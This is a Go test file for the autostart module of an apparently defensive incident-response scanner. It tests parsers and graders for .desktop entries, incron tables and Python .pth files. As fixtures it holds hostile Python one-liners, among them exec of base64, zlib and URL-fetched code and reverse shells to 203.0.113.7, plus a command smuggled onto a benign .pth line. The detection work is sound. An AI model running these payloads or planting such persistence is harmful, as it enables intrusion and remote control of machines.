package autostart

import (
	"reflect"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/model"
)

func TestParseDesktop(t *testing.T) {
	src := "# comment\r\n" +
		"[Desktop Action new]\nExec=/bin/false\n" +
		"  [Desktop Entry]\n" +
		"Type = Application\n" +
		"Name=Keyring\n" +
		"Name[zh_CN]=密钥环\n" +
		"Exec=sh -c \"echo\\sa\\\\b\" %u\r\n" +
		"not a key line\n" +
		"[Other]\nExec=/bin/other\n" +
		"[Desktop Entry]\nExec=/usr/bin/second\n"
	d := ParseDesktop([]byte(src))
	if !d.HasGroup {
		t.Fatal("group not found")
	}
	if k, ok := d.Get("Type"); !ok || k.Value != "Application" || k.N != 5 {
		t.Errorf("Type = %+v", k)
	}
	if k, ok := d.Get("Name"); !ok || k.Value != "Keyring" {
		t.Errorf("Name = %+v (localized key must not win)", k)
	}
	var zh DesktopKey
	for _, k := range d.Keys {
		if k.Key == "Name" && k.Locale == "zh_CN" {
			zh = k
		}
	}
	if zh.Value != "密钥环" {
		t.Errorf("localized Name = %+v", zh)
	}
	ex := d.All("Exec")
	if len(ex) != 2 || ex[0].Value != `sh -c "echo a\b" %u` || ex[0].Raw != `Exec=sh -c "echo\sa\\b" %u` || ex[1].Value != "/usr/bin/second" {
		t.Errorf("Exec lines = %+v", ex)
	}
	if k, _ := d.Get("Exec"); k.Value != "/usr/bin/second" {
		t.Errorf("last Exec should win: %+v", k)
	}
	if !reflect.DeepEqual(d.Bad, []int{9}) {
		t.Errorf("bad lines %v", d.Bad)
	}
	if d := ParseDesktop([]byte("Exec=/bin/x\n")); d.HasGroup || len(d.Bad) != 1 {
		t.Errorf("key before group: %+v", d)
	}
}

func TestDisabled(t *testing.T) {
	for src, want := range map[string]bool{
		"[Desktop Entry]\nHidden=true\n":                                                     true,
		"[Desktop Entry]\nHidden=false\n":                                                    false,
		"[Desktop Entry]\nX-GNOME-Autostart-enabled=false\n":                                 true,
		"[Desktop Entry]\nX-MATE-Autostart-enabled=false\n":                                  true,
		"[Desktop Entry]\nX-GNOME-Autostart-enabled=false\nX-GNOME-Autostart-enabled=true\n": false,
		"[Desktop Entry]\nX-GNOME-Autostart-enabled=true\n":                                  false,
		"[Desktop Entry]\nX-GNOME-Autostart-Delay=0\n":                                       false,
		"[Desktop Entry]\nHidden[de]=true\n":                                                 false,
	} {
		if got := ParseDesktop([]byte(src)).Disabled() != ""; got != want {
			t.Errorf("Disabled(%q) = %v, want %v", src, got, want)
		}
	}
}

func TestExecCommand(t *testing.T) {
	for in, want := range map[string]string{
		"firefox %u":                   "firefox",
		"gimp %F --new":                "gimp  --new",
		"printf 100%%":                 "printf 100%",
		"x %Z %":                       "x %Z %",
		"  /usr/bin/nm-applet  ":       "/usr/bin/nm-applet",
		"sh -c 'echo %k %c %i'":        "sh -c 'echo   '",
		"/usr/bin/remmina -i %d %D %n": "/usr/bin/remmina -i",
	} {
		if got := ExecCommand(in); got != want {
			t.Errorf("ExecCommand(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestParseIncron(t *testing.T) {
	src := "# comment\n" +
		"\n" +
		"/srv/My\\ Files IN_CLOSE_WRITE,IN_NO_LOOP,recursive=false  /usr/local/bin/sync $@/$#\n" +
		"   /etc/shadow\tIN_MODIFY\tlogger x\r\n" +
		"/only IN_MODIFY\n" +
		"/var/x 8 cmd\n"
	tab := ParseIncron([]byte(src))
	if len(tab.Lines) != 3 || !reflect.DeepEqual(tab.Bad, []int{5}) {
		t.Fatalf("lines %+v bad %v", tab.Lines, tab.Bad)
	}
	l := tab.Lines[0]
	if l.N != 3 || l.Path != "/srv/My Files" || l.Command != "/usr/local/bin/sync $@/$#" ||
		!reflect.DeepEqual(l.Events, []string{"IN_CLOSE_WRITE"}) || !reflect.DeepEqual(l.Options, []string{"IN_NO_LOOP", "recursive=false"}) {
		t.Errorf("line 3: %+v", l)
	}
	if l := tab.Lines[1]; l.Path != "/etc/shadow" || !l.CRLF || strings.HasSuffix(l.Raw, "\r") || !l.watchesSomething() {
		t.Errorf("line 4: %+v", l)
	}
	if l := tab.Lines[2]; !l.watchesSomething() {
		t.Errorf("numeric mask: %+v", l)
	}
	if l, _ := parseIncronLine("/x IN_NOTHING cmd"); l.watchesSomething() {
		t.Errorf("unknown event counted: %+v", l)
	}
}

func TestExpandIncron(t *testing.T) {
	got := ExpandIncron("cp $@/$# /b; echo $$HOME $% $& $x $", "/w", "F")
	if want := "cp /w/F /b; echo $HOME IN_CLOSE_WRITE 8 $x $"; got != want {
		t.Errorf("ExpandIncron = %q, want %q", got, want)
	}
}

func TestRunsEventFile(t *testing.T) {
	ev := func(s string) string { return ExpandIncron(s, "/w", eventFileMarker) }
	for cmd, want := range map[string]bool{
		"php $@/$#":                          true,
		"$@/$#":                              true,
		"nohup /usr/bin/python3 -u $@/$#":    true,
		"bash -x $@/$# &":                    true,
		"/usr/bin/rsync -a $@/$# backup:/in": false,
		"sh -c 'convert $@/$# x.png'":        false,
		"/usr/bin/sysadmin_manager $#":       false,
		"cat $@/$# | sh":                     false, // cmdscan's business
	} {
		if got := runsEventFile(ev(cmd)); got != want {
			t.Errorf("runsEventFile(%q) = %v, want %v", cmd, got, want)
		}
	}
}

func TestWatchClass(t *testing.T) {
	for p, want := range map[string][2]bool{
		"/etc/passwd":                     {true, false},
		"/etc":                            {true, false},
		"/etc/nginx/sites-enabled":        {false, false},
		"/etc/sudoers.d":                  {true, false},
		"/home/dev/.ssh/authorized_keys":  {true, false},
		"/root/.ssh":                      {true, false},
		"/var/www/html/uploads":           {false, true},
		"/srv/app/public/Uploads/avatars": {false, true},
		"/tmp":                            {false, true},
		"/home/ops/public_html":           {false, true},
		"/var/lib/tomcat9/webapps":        {false, true},
		"/home/ops/incoming":              {false, false},
	} {
		if s, e := watchSensitive(p), watchExposed(p); s != want[0] || e != want[1] {
			t.Errorf("%s: sensitive %v exposed %v, want %v", p, s, e, want)
		}
	}
}

func TestParsePth(t *testing.T) {
	src := "\xef\xbb\xbfimport a\r\n# import b\r\n\r\n/srv/lib\rimport\tc\n  import d\n\n/x import y\nfrom os import system\n"
	got := ParsePth([]byte(src))
	want := []PthLine{
		{1, "import a", PthImport},
		{4, "/srv/lib", PthPath},
		{5, "import\tc", PthImport},
		{6, "  import d", PthInert},
		{8, "/x import y", PthPath},
		{9, "from os import system", PthPath},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("ParsePth =\n%+v\nwant\n%+v", got, want)
	}
}

func TestPthShape(t *testing.T) {
	benign := map[string]string{
		"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ":  "distutils-precedence",
		"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ": "distutils-precedence",
		"import _virtualenv":                          "setuptools/virtualenv/coverage",
		"import coverage; coverage.process_startup()": "setuptools/virtualenv/coverage",
		"import sys; sys.__plen = len(sys.path)":      "setuptools/virtualenv/coverage",
		"import sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p = getattr(sys, '__egginsert', 0); sys.path[p:p] = new; sys.__egginsert = p + len(new)": "setuptools/virtualenv/coverage",
		strings.TrimSpace(strings.SplitN(nspkgBackports, "\n", 2)[1]): "namespace-package",
		"import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)":                                                        "namespace-package",
		"import sys, types, os, pkgutil;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('ns',));ie = os.path.exists(os.path.join(p, '__init__.py'));m = not ie and sys.modules.setdefault('ns', types.ModuleType('ns'));mp = (m or []) and m.__dict__.setdefault('__path__', []);(p not in mp) and mp.append(p);mp[:] = m and pkgutil.extend_path(mp, 'ns') or mp": "namespace-package",
		"import sys, types, os;p = os.path.join('/home/dev/src/proj', *('acme',));m = sys.modules.setdefault('acme', types.ModuleType('acme'));mp = m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)":                                                                                                                                                    "namespace-package",
		"import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()": "editable-finder",
	}
	for line, want := range benign {
		if got, _ := PthShape(line); got != want {
			t.Errorf("PthShape(%.60q) = %q, want %q", line, got, want)
		}
	}
	for _, line := range []string{
		"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); __import__('os').system('id')",
		"import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));exec(p)",
		"import sys, types, os;m = sys.modules.setdefault('x', __import__('socket'))",
		"import sys, types, os",
		"import _virtualenv, os",
		"import __editable___a_finder; __editable___b_finder.install()",
		"import coverage; coverage.process_startup(); import os",
	} {
		if got, _ := PthShape(line); got != "" {
			t.Errorf("PthShape(%q) = %q, want no shape", line, got)
		}
	}
}

func TestExecLiteral(t *testing.T) {
	code, esc, ok := ExecLiteral(`import sys; exec('import os\n\nif os.getenv("X"):\n pass')`)
	if !ok || code != "import os\n\nif os.getenv(\"X\"):\n pass" || esc != 0 {
		t.Errorf("ExecLiteral = %q %d %v", code, esc, ok)
	}
	if code, esc, ok := ExecLiteral(`import os;exec("\x69\x6d\x70\157\162\164 \u006fs")`); !ok || code != "import os" || esc != 7 {
		t.Errorf("escapes: %q %d %v", code, esc, ok)
	}
	if code, _, ok := ExecLiteral(`import os;exec(r'a\nb');`); !ok || code != `a\nb` {
		t.Errorf("raw literal: %q %v", code, ok)
	}
	for _, line := range []string{
		`import os;exec(os.environ['X'])`,
		`import os;exec('a') + exec('b')`,
		`import os;x=1;exec('a')`,
		`import os;exec('unterminated)`,
		`exec('a')`,
		`import os;exec('\x6')`,
	} {
		if code, _, ok := ExecLiteral(line); ok {
			t.Errorf("ExecLiteral(%q) accepted: %q", line, code)
		}
	}
}

func TestImportedModules(t *testing.T) {
	got := importedModules("import a, b.c as d;import\te ; x = __import__('f.g'); import a")
	if want := []string{"a", "b", "e", "f"}; !reflect.DeepEqual(got, want) {
		t.Errorf("importedModules = %v, want %v", got, want)
	}
}

func TestGradePy(t *testing.T) {
	lines := []struct {
		text string
		sev  model.Severity
		ind  string
	}{
		{"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))", model.Critical, indPyExecPayload},
		{"import zlib,base64;exec(zlib.decompress(base64.b64decode(b'eJzL')))", model.Critical, indPyExecPayload},
		{"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/x').read())", model.Critical, indPyExecPayload},
		{"import socket,pty;s=socket.socket();s.connect(('203.0.113.7',53));pty.spawn('/bin/sh')", model.Critical, indPyNetworkExec},
		{"import os;os.popen('id')", model.High, indPyProcess},
		{"import sys;sys.path.insert(0, '/dev/shm/.m')", model.High, "writable-location"},
		{"import sys;sys.path.insert(0, '/usr/lib/.cache')", model.Medium, "hidden-location"},
		{"import requests;requests.get('https://203.0.113.7/ping')", model.High, indPyNetwork},
		{"import codecs;codecs.decode('vzcbeg bf', 'rot13')", model.High, indPyObfuscation},
	}
	for _, tc := range lines {
		v := gradePyLine(tc.text)
		if !v.Suspicious || v.Severity != tc.sev || !contains(v.Indicators, tc.ind) {
			t.Errorf("gradePyLine(%q) = %v %s %v, want %s %s", tc.text, v.Suspicious, v.Severity, v.Indicators, tc.sev, tc.ind)
		}
	}
	for _, text := range []string{
		"import sys; sys.stderr.write('pytest-cov: Failed to setup subprocess coverage. socket closed')",
		"import os; os.environ.setdefault('TZ', 'UTC')",
		"import platform; platform.system()",
		"import re; re.compile('x'); ast.literal_eval('1')",
		"import sys; sys.path.append('/home/dev/.local/lib/extra')",
	} {
		if v := gradePyLine(text); v.Suspicious {
			t.Errorf("gradePyLine(%q) = %s %v, want nothing", text, v.Severity, v.Indicators)
		}
	}
	// A module that imports much but only asks for the host name is no
	// reverse shell; the same imports used together are.
	quiet := "import os, socket, subprocess\n\nHOST = socket.gethostname()\n"
	if v := gradePyBlock(pySource([]byte(quiet))); v.Severity > model.Medium {
		t.Errorf("imports alone combined: %s %v", v.Severity, v.Indicators)
	}
	loud := "import os\nimport socket\nfrom subprocess import Popen\n\ns = socket.create_connection(('203.0.113.7', 443))\nPopen(['/bin/sh'], stdin=s, stdout=s)\n"
	if v := gradePyBlock(pySource([]byte(loud))); v.Severity != model.Critical || v.Line != 6 {
		t.Errorf("reverse shell module: %s line %d %v", v.Severity, v.Line, v.Indicators)
	}
	far := "import socket\nHOST = socket.gethostname()\n" + strings.Repeat("x = 1\n", 20) + "import subprocess\nsubprocess.run(['true'])\n"
	if v := gradePyBlock(pySource([]byte(far))); v.Severity > model.Medium {
		t.Errorf("signals twenty lines apart combined: %s %v", v.Severity, v.Indicators)
	}
}

func FuzzParseDesktop(f *testing.F) {
	for _, s := range []string{
		"[Desktop Entry]\nType=Application\nName[zh_CN]=x\nExec=sh -c \"a\\sb\" %u\nHidden=true\n",
		"Exec=x\n[Desktop Entry\n[Desktop Entry]]\n=\n[Desktop Entry]\nX-GNOME-Autostart-enabled=0\n\\",
		"\r\n[Desktop Entry]\r\nExec=%%%",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		d := ParseDesktop(b)
		last := 0
		for _, k := range d.Keys {
			if k.N <= last || k.Key == "" {
				t.Fatalf("bad key %+v after line %d", k, last)
			}
			last = k.N
			ExecCommand(k.Value)
		}
		if len(d.Keys) > 0 && !d.HasGroup {
			t.Fatal("keys without a group")
		}
		d.Disabled()
	})
}

func FuzzParseIncron(f *testing.F) {
	for _, s := range []string{
		"/srv/a\\ b IN_CLOSE_WRITE,IN_NO_LOOP /bin/cmd $@/$#\n# c\n/x 8 y\r\n",
		"\\\n\\ \\ x y z\n/a IN_MODIFY\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		tab := ParseIncron(b)
		for _, l := range tab.Lines {
			if l.N < 1 || l.Path == "" || strings.TrimSpace(l.Command) == "" || l.Mask == "" {
				t.Fatalf("bad line %+v", l)
			}
			cmd := ExpandIncron(l.Command, l.Path, eventFileMarker)
			runsEventFile(cmd)
			watchSensitive(l.Path)
			watchExposed(l.Path)
		}
	})
}

func FuzzParsePth(f *testing.F) {
	for _, s := range []string{
		"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
		"/srv\rimport os;exec('\\x41\\101\\u0041')\n  import x\n",
		"import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\"):\\n pass')\n",
		"import socket,subprocess;s=socket.socket();subprocess.call(['/bin/sh'])",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		last := 0
		for _, l := range ParsePth(b) {
			if l.N <= last || strings.ContainsAny(l.Raw, "\r\n") || l.Kind < PthPath || l.Kind > PthInert {
				t.Fatalf("bad line %+v after %d", l, last)
			}
			last = l.N
			PthShape(l.Raw)
			if code, _, ok := ExecLiteral(l.Raw); ok {
				gradePyLine(code)
			}
			gradePyLine(l.Raw)
			importedModules(l.Raw)
		}
		gradePyBlock(pySource(b))
	})
}
